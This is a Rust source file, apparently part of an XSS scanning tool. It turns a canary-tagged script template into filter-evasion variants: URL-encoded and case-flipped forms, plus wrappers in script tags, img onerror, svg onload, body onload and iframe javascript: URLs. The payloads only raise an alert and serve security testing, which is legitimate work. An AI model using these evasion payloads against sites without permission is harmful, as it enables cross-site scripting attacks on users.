//! Filter-evasion variants of an XSS template

use super::canary::inject_canary;
use std::collections::HashSet;

fn query_escape(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Single and double URL-encoded forms of a payload. Echoed back verbatim
/// these are inert text; they only execute if the application decodes them.
pub fn url_encoded_forms(payload: &str) -> [String; 2] {
    let single = query_escape(payload);
    let double = query_escape(&single);
    [single, double]
}

/// Swaps the case of every ASCII letter
fn flip_case(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else if c.is_ascii_uppercase() {
                c.to_ascii_lowercase()
            } else {
                c
            }
        })
        .collect()
}

/// Expands a template into its mutation variants.
///
/// The canary is injected first, so every variant carries it. The raw
/// payload always comes first; the result holds no duplicates and keeps
/// first-seen order.
pub fn mutate_payload(template: &str, canary: &str) -> Vec<String> {
    let p = inject_canary(template, canary);
    let call = format!("alert('{canary}')");
    let [single, double] = url_encoded_forms(&p);

    let mut variants = vec![p.clone(), double, single, flip_case(&p)];
    if p.contains("alert") {
        variants.push(p.replace("alert", "al//ert"));
    }
    variants.push(p.replace(&call, &format!("`{call}`")));
    variants.push(p.replace(&call, &format!("${{{call}}}")));
    variants.push(format!("<script>{p}</script>"));
    variants.push(format!("<img src=x onerror=\"{p}\">"));
    variants.push(format!("\"><svg/onload=\"{p}\">"));
    variants.push(format!("<body onload=\"{p}\">"));
    variants.push(format!("\"><iframe src=\"javascript:{p}\"></iframe>"));

    let mut seen = HashSet::new();
    variants.retain(|v| seen.insert(v.clone()));
    variants
}
